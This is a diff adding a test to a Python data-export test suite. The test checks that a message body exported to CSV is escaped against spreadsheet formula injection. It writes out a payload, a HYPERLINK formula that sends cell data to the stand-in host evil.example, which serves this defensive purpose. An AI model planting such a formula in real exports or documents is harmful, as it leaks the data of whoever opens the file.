@@ -15,6 +15,7 @@ from accounts.models import Role, User
 from audit.selectors import events_for_owner
 from cameras import access
 from cameras import services as camera_services
+from messaging import services as messaging_services
 from ownerdata.export import FORMAT, VERSION, owner_export_collect
 from ownerdata.selectors import SECTIONS
 from tests.conftest import SHARED_PK, TenantClient
@@ -81,6 +82,23 @@ def test_the_csv_zip_has_one_file_per_section_with_the_same_rows(world: OwnerWor
     assert names == {"README.txt", *(f"{name}.csv" for name in SECTIONS)}
     assert {row["sha256"] for row in clips} == {row["sha256"] for row in document["sections"]["clips"]}
     assert "not included" in readme
+
+
+def test_an_officers_text_opens_in_a_spreadsheet_as_text_never_as_a_formula(world: OwnerWorld) -> None:
+    formula = '=HYPERLINK("https://evil.example/?d="&A1,"Click")'
+    messaging_services.message_send(
+        actor=world.officer_actor,
+        purpose=world.purpose,
+        camera_public_id=world.live_camera.public_id,
+        body=formula,
+    )
+
+    response = world.client.get("/my/data/download.zip")
+
+    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
+        rows = list(csv.DictReader(io.StringIO(archive.read("messages.csv").decode("utf-8-sig"))))
+    assert "'" + formula in [row["body"] for row in rows]
+    assert not [cell for row in rows for cell in row.values() if cell.startswith(("=", "+", "@"))]
 
 
 def test_nothing_of_another_owner_appears(world: OwnerWorld) -> None:
